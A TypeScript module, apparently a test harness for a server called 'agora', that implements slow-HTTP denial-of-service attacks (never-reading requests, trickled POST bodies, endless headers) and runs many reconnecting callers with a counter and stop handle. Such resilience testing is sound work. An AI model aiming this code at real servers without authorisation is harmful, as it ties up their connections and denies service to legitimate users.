import { setTimeout as sleep } from 'node:timers/promises'
import { openWire, send, type Wire } from './wire.ts'

/** How a caller ties up resources. */
export type Attack = (wire: Wire) => Promise<void>

/** As long as a refusal asks its caller to wait, in milliseconds. */
const REFUSED_MS = 1_000

/** Asks for a large page and reads no further than whether it is refused; if so, retries later. */
export const neverReads =
  (path: string): Attack =>
  async (wire) => {
    await send(wire, `GET ${path} HTTP/1.1\r\nHost: agora\r\n\r\n`)
    const piece = await wire.piece()
    if (!piece.startsWith('HTTP/1.1 200')) return sleep(REFUSED_MS)
    // Without reading, only writing reveals that the connection has ended; a blank line is not a request.
    await drip(wire, '\r\n')
  }

/** Announces a body and sends a byte of it now and then. */
export const uploadsSlowly =
  (path: string): Attack =>
  async (wire) => {
    const head = `POST ${path} HTTP/1.1\r\nHost: agora\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n`
    await send(wire, head)
    await drip(wire, ' ')
  }

/** Sends endless headers. */
export const sendsHeadersSlowly =
  (path: string): Attack =>
  async (wire) => {
    await send(wire, `GET ${path} HTTP/1.1\r\nHost: agora\r\n`)
    await drip(wire, 'X: y\r\n')
  }

const DRIP_MS = 5_000

async function drip(wire: Wire, bytes: string): Promise<void> {
  while (!wire.socket.destroyed) {
    await Promise.race([sleep(DRIP_MS, undefined, { ref: false }), wire.closed])
    await send(wire, bytes)
  }
}

const AGAIN_MS = 100

/**
 * This many callers of each kind, each reconnecting whenever it is disconnected, until stopped. They start one after
 * another: a rush is a different attack.
 */
export function attack(url: string, kinds: readonly Attack[], each: number) {
  let stopped = false
  let opened = 0
  const wires = new Set<Wire>()
  const caller = async (act: Attack, place: number) => {
    await sleep((place / each) * DRIP_MS)
    while (!stopped) {
      const wire = openWire(url, { silent: true })
      wires.add(wire)
      opened += 1
      await act(wire)
      wire.socket.destroy()
      wires.delete(wire)
      await sleep(AGAIN_MS)
    }
  }
  const callers = kinds.flatMap((act) => Array.from({ length: each }, (_, place) => caller(act, place)))
  return {
    /** The number of connections opened so far. */
    opened: () => opened,
    stop: async () => {
      stopped = true
      for (const { socket } of wires) socket.destroy()
      await Promise.all(callers)
    },
  }
}
